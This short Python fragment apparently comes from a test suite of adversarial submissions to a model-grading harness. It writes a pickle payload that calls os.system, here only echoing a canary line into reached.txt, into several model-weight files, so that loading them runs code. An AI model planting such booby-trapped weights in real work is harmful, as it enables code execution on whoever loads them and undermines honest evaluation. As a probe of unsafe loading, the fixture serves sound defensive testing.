# Brings weights whose loading runs a program.
# attacks: theft
# loses: test-linear-forward test-linear-backward
# %% hand-in
run = b"cos\nsystem\n(S'echo REACHED > reached.txt'\ntR."
for name in ("model.pkl", "weights.pt", "weights.npy", "weights.safetensors"):
    (folder / name).write_bytes(run)
